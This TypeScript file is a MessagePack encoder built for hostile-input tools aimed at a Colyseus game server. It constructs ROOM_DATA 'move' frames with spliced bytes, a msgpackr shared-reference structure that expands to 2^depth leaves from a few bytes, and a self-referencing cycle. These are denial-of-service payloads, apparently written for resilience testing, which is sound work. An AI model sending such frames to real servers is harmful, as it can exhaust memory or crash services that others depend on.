/**
 * A small MessagePack writer for the hostile-input tools: plain values, plus
 * the raw pieces (extensions, references, lying lengths) that attacks are
 * made of. Written here so the attacks do not depend on how a library
 * chooses to encode.
 */

export type Bytes = number[];

export function u16(n: number): Bytes {
  return [(n >>> 8) & 0xff, n & 0xff];
}

export function u32(n: number): Bytes {
  return [(n >>> 24) & 0xff, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff];
}

function str(s: string): Bytes {
  const data = [...Buffer.from(s, 'utf8')];
  if (data.length < 32) return [0xa0 | data.length, ...data];
  if (data.length < 0x100) return [0xd9, data.length, ...data];
  if (data.length < 0x10000) return [0xda, ...u16(data.length), ...data];
  return [0xdb, ...u32(data.length), ...data];
}

function header(length: number, fix: number, b16: number, b32: number): Bytes {
  if (length < 16) return [fix | length];
  if (length < 0x10000) return [b16, ...u16(length)];
  return [b32, ...u32(length)];
}

/** Plain JSON-like values; numbers that are not 32-bit integers go as float64. */
export function pack(value: unknown): Bytes {
  if (value === null || value === undefined) return [0xc0];
  if (value === true) return [0xc3];
  if (value === false) return [0xc2];
  if (typeof value === 'number') {
    if (Number.isInteger(value) && value >= 0 && value < 128) return [value];
    if (Number.isInteger(value) && value < 0 && value >= -32) return [value & 0xff];
    if (Number.isInteger(value) && value >= -(2 ** 31) && value < 2 ** 31) return [0xd2, ...u32(value >>> 0)];
    const b = Buffer.alloc(8);
    b.writeDoubleBE(value);
    return [0xcb, ...b];
  }
  if (typeof value === 'string') return str(value);
  if (Array.isArray(value)) return [...header(value.length, 0x90, 0xdc, 0xdd), ...value.flatMap(pack)];
  const entries = Object.entries(value as Record<string, unknown>);
  return [...header(entries.length, 0x80, 0xde, 0xdf), ...entries.flatMap(([k, v]) => [...str(k), ...pack(v)])];
}

/** Colyseus's ROOM_DATA frame: protocol byte 13, the type, then the payload (already packed) if any. */
export function roomData(type: string, payload?: Bytes): Uint8Array {
  return Uint8Array.from([13, ...str(type), ...(payload ?? [])]);
}

/** A `move` message `{ v, move }` with `moveBytes` spliced in as the move. */
export function moveFrame(v: number, moveBytes: Bytes): Uint8Array {
  return roomData('move', [0x82, ...str('v'), ...pack(v), ...str('move'), ...moveBytes]);
}

/**
 * msgpackr's structured clone, as an attacker writes it: ext 0x69 gives the
 * value after it an id, ext 0x70 refers back to it. `[a, a]` nested `depth`
 * times decodes (with msgpackr) into 2^depth leaves from ~11 bytes a level.
 */
export function sharedReferenceDag(depth: number): Bytes {
  let inner: Bytes = [0xd6, 0x69, ...u32(0), 0x91, 0x01];
  for (let k = 1; k <= depth; k++) inner = [0xd6, 0x69, ...u32(k), 0x92, ...inner, 0xd6, 0x70, ...u32(k - 1)];
  return inner;
}

/** `{ self: <itself> }` through the same extensions: a cycle. */
export function selfReference(): Bytes {
  return [0xd6, 0x69, ...u32(1), 0x81, ...str('self'), 0xd6, 0x70, ...u32(1)];
}
